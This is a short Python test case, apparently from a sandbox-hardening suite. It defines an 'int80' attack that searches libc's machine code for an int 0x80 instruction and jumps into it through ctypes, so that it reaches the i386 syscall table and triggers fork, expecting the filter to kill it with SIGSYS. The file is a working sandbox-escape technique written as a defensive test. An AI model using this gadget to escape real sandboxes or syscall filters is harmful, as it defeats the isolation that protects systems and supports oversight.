"""what: 'Jumps into the middle of an instruction of the C library that reads as `int 0x80`: the i386 table of calls.'
origin: ours
outcome: violation
reason: SIGSYS
"""


class Attack(Hostile):
    name = "int80"

    def attack(self, context, given):
        ctypes = reach("ctypes")
        start = ctypes.cast(libc().abs, ctypes.c_void_p).value & ~4_095
        code = ctypes.string_at(start, 1_000_000)
        place = start + code.index(b"\xcd\x80")

        gadget = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_double, ctypes.c_double)(place)
        # By the C calling convention the number of floating arguments is in eax; 2 is fork on i386.
        return f"ESCAPED: {gadget(0.0, 0.0)}"
